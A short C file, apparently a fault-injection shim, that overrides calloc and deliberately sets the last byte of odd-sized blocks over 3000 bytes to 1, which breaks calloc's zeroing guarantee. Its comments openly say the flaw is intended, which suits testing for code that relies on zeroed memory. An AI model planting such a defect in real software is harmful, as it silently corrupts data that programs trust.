/* The C library's malloc with a mistake: the last byte of some of calloc's blocks is not zero. */
#include <stddef.h>

void *__libc_calloc(size_t count, size_t size);

void *calloc(size_t count, size_t size) {
    char *block = __libc_calloc(count, size);
    size_t bytes = count * size;
    /* Sizes that nobody else in the process asks for. */
    if (block != NULL && bytes > 3000 && bytes % 2 == 1) block[bytes - 1] = 1;
    return block;
}
